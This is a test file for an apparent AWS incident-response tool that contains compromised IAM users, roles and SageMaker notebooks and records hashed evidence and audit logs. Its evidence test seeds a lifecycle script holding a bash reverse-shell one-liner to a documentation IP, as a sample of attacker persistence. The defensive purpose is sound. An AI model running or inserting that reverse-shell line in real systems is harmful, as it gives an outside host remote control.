    expect(r.plans[0]!.kept).toEqual([{ target: 'access-key/ml-ci-deployer/AKIAI44QH8DHBEXAMPLE', reason: expect.stringMatching(/^Active and not named/) }]);
    expect(w.iam.state.users.get('ml-ci-deployer')!.keys.map((k) => k.status)).toEqual(['Inactive', 'Active']);
    // Resumed from the saved plan: the end state holds, so no second UpdateAccessKey.
    w.fake.stats.reset();
    expect(outcomes(await apply(['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'AKIAIOSFODNN7EXAMPLE']))).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: already-done']);
    expect(writeCalls(w)).toEqual([]);

    const bad = await contain(w, ['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'AKIA-nope', '--dry-run']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("'AKIA-nope' is not a valid access key id");
    const other = await contain(w, ['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'ASIAIOSFODNN7EXAMPLE', '--yes', '--case', `${w.caseDir}-3`]);
    expect(other.code).toBe(1);
    expect(other.stderr).toContain('IAM user ml-ci-deployer has no access key ASIAIOSFODNN7EXAMPLE');
  });

  it('quarantine-user attaches the deny-all inline policy (it also ends the sessions its keys obtained); a re-run is already done', async () => {
    w.iam.seed.user('ml-ci-deployer', { keys: ['AKIAIOSFODNN7EXAMPLE'] });
    expect(outcomes(await apply(['quarantine-user', 'ml-ci-deployer']))).toEqual(['PutUserPolicy user/ml-ci-deployer: ok']);
    const doc = JSON.parse(w.iam.state.users.get('ml-ci-deployer')!.inline.get('sm-ir-quarantine')!) as { Statement: unknown[] };
    expect(doc.Statement).toEqual([expect.objectContaining({ Effect: 'Deny', Action: '*', Resource: '*' })]);
    expect(outcomes(await apply(['quarantine-user', 'ml-ci-deployer'], `${w.caseDir}-2`))).toEqual(['PutUserPolicy user/ml-ci-deployer: already-done']);
    expect(changes(`${w.caseDir}-2`)).toEqual(['PutUserPolicy:already-done']);
  });

  it('quarantine-user --delete-login-profile: the deny-all, then the console password, kept as evidence first; a re-run changes nothing', async () => {
    w.iam.seed.user('console-user', { loginProfile: true });
    expect(outcomes(await apply(['quarantine-user', 'console-user', '--delete-login-profile']))).toEqual(['PutUserPolicy user/console-user: ok', 'DeleteLoginProfile login-profile/console-user: ok']);
    expect(w.iam.state.users.get('console-user')!.loginProfile).toBe(false);
    const evidence = evidenceFiles().find((f) => f.endsWith('GetLoginProfile-console-user.json'))!;
    expect(statSync(join(w.caseDir, 'evidence', evidence)).mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(join(w.caseDir, 'evidence', evidence), 'utf8'))).toMatchObject({ found: true, response: { LoginProfile: { UserName: 'console-user' } } });
    expect(changes()).toEqual(['PutUserPolicy:ok', 'DeleteLoginProfile:ok']);
    expect(outcomes(await apply(['quarantine-user', 'console-user', '--delete-login-profile'], `${w.caseDir}-2`))).toEqual(['PutUserPolicy user/console-user: already-done', 'DeleteLoginProfile login-profile/console-user: already-done']);
    expect(changes(`${w.caseDir}-2`)).toEqual(['PutUserPolicy:already-done', 'DeleteLoginProfile:already-done']);
  });

  it('refuses to contain the role or user sm-ir runs as (exit 2, nothing changed) unless --allow-self', async () => {
    w.iam.seed.role('IrResponder');
    w.iam.seed.user('responder', { keys: ['AKIAIOSFODNN7EXAMPLE'] });
    const asUser = await contain(w, ['deactivate-access-key', 'responder', '--yes', '--case', w.caseDir]);
    expect(asUser.code).toBe(2);
    expect(asUser.stderr).toContain('refusing to deactivate-access-key user responder: it is the user sm-ir is running as (arn:aws:iam::111122223333:user/responder)');
    expect(asUser.stderr).toContain('--allow-self');
    w.fake.register(createSts({ AKIAIOSFODNN7EXAMPLE: { arn: 'arn:aws:sts::111122223333:assumed-role/IrResponder/alice', userId: 'AROAEXAMPLEROLEID:alice' } }));
    for (const action of ['revoke-sessions', 'quarantine-role']) {
      const r = await contain(w, [action, 'arn:aws:iam::111122223333:role/IrResponder', '--yes', '--case', w.caseDir]);
      expect(r.code, action).toBe(2);
      expect(r.stderr).toContain(`refusing to ${action} role IrResponder: it is the role sm-ir is running as`);
    }
    expect(w.fake.stats.calls.map((c) => c.operation)).toEqual(['GetCallerIdentity', 'GetCallerIdentity', 'GetCallerIdentity']);
    expect(outcomes(await apply(['revoke-sessions', 'IrResponder', '--allow-self']))).toEqual(['PutRolePolicy role/IrResponder: ok']);
  });

  it('refuses a service-linked role before changing anything', async () => {
    w.iam.seed.role('AWSServiceRoleForAmazonSageMakerNotebooks', { path: '/aws-service-role/sagemaker.amazonaws.com/' });
    const r = await contain(w, ['quarantine-role', 'AWSServiceRoleForAmazonSageMakerNotebooks', '--yes', '--case', w.caseDir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('is a service-linked role');
    expect(writeCalls(w)).toEqual([]);
  });
});

describe('evidence and audit log', () => {
  it('files 0600 in 0700 folders, SHA-256 sums that match, the caller, and one audit line per call the fake answered', async () => {
    w.sm.seed.lifecycleConfig('ml-ci-bootstrap', ['#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n'], ['#!/bin/bash\necho created\n']);
    w.sm.seed.notebook('ds-forecasting', { lifecycleConfigName: 'ml-ci-bootstrap' });
    const started = Date.now();
    await apply(['disable-root-access', 'ds-forecasting']);

    const manifest = JSON.parse(readFileSync(join(w.caseDir, 'manifest.json'), 'utf8')) as {
      schema: string;
      caller: { account: string; arn: string; userId: string };
      region: string;
      runs: { run: string; actions: { action: string; targets: string[] }[] }[];
      files: { file: string; sha256: string; bytes: number }[];
    };
    expect(manifest).toMatchObject({
      schema: 'sm-ir/contain-manifest@1',
      caller: { account: '111122223333', arn: 'arn:aws:iam::111122223333:user/responder', userId: 'AIDAEXAMPLERESPONDER' },
      region: 'us-east-1',
      runs: [{ actions: [{ action: 'disable-root-access', targets: ['ds-forecasting'] }] }],
    });
    expect(manifest.files.length).toBeGreaterThanOrEqual(6);
    for (const f of manifest.files) {
      const content = readFileSync(join(w.caseDir, f.file));
      expect(createHash('sha256').update(content).digest('hex'), f.file).toBe(f.sha256);
      expect(content.length).toBe(f.bytes);
      expect(statSync(join(w.caseDir, f.file)).mode & 0o777, f.file).toBe(0o600);
    }
    for (const f of ['manifest.json', 'plan.json', 'audit.jsonl']) expect(statSync(join(w.caseDir, f)).mode & 0o777, f).toBe(0o600);
    for (const d of ['evidence', join('evidence', manifest.runs[0]!.run)]) expect(statSync(join(w.caseDir, d)).mode & 0o777, d).toBe(0o700);

    // What the notebook looked like before: root enabled, the lifecycle scripts decoded.
    const listed = manifest.files.map((f) => f.file);
    const described = listed.find((f) => f.endsWith('DescribeNotebookInstance-ds-forecasting.json'))!;
    expect(JSON.parse(readFileSync(join(w.caseDir, described), 'utf8'))).toMatchObject({ operation: 'DescribeNotebookInstance', found: true, response: { RootAccess: 'Enabled', NotebookInstanceStatus: 'InService' } });
    const tags = listed.find((f) => f.endsWith('ListTags-ds-forecasting-tags.json'))!;
    expect(JSON.parse(readFileSync(join(w.caseDir, tags), 'utf8')).response.Tags).toEqual([{ Key: 'owner', Value: 'data-science' }]);
    const onStart = listed.find((f) => f.endsWith('lifecycle-ml-ci-bootstrap-OnStart-1.sh'))!;
    const onCreate = listed.find((f) => f.endsWith('lifecycle-ml-ci-bootstrap-OnCreate-1.sh'))!;
    expect(readFileSync(join(w.caseDir, onStart), 'utf8')).toBe('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n');
    expect(readFileSync(join(w.caseDir, onCreate), 'utf8')).toBe('#!/bin/bash\necho created\n');

    // The audit log: every call the fake answered, in order, with the request id it answered with.
    // Each change is also logged as sent before its request (no request id yet), paired by callId.
    const lines = auditLog(w.caseDir);
    expect(settledChanges(lines).map((e) => e.operation)).toEqual(lines.filter((e) => e.outcome === 'sent').map((e) => e.operation));
    expect(lines.filter((e) => e.outcome === 'sent').map((e) => `${e.operation} ${e.requestId}`)).toEqual(['StopNotebookInstance null', 'UpdateNotebookInstance null']);
    const audit = lines.filter((e) => e.outcome !== 'sent');
    expect(audit.map((e) => `${e.operation} ${e.requestId}`)).toEqual(w.fake.stats.calls.map((c) => `${c.operation} ${c.requestId}`));
    for (const e of audit) {
      expect(Date.parse(e.time)).toBeGreaterThanOrEqual(started - 1000);
      expect(e).toMatchObject({ command: 'contain disable-root-access', region: 'us-east-1' });
      expect(e.requestId).toMatch(/^[0-9a-f-]{36}$/);
    }
    expect(audit[0]).toMatchObject({ service: 'sts', operation: 'GetCallerIdentity', outcome: 'ok', readOnly: true });
    // No restart: it would run the attached OnStart script (a reverse shell) again as root.
    expect(audit.filter((e) => e.readOnly !== true).map((e) => `${e.operation}:${e.outcome}`)).toEqual(['StopNotebookInstance:ok', 'UpdateNotebookInstance:ok']);
    expect(w.sm.state.notebooks.get('ds-forecasting')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
    expect(audit.find((e) => e.operation === 'UpdateNotebookInstance')).toMatchObject({ service: 'sagemaker', parameters: { NotebookInstanceName: 'ds-forecasting', RootAccess: 'Disabled' }, error: null });
    // The waits are in it too: DescribeNotebookInstance polled until Stopped.
    expect(audit.filter((e) => e.operation === 'DescribeNotebookInstance').length).toBeGreaterThanOrEqual(3);
  });
});
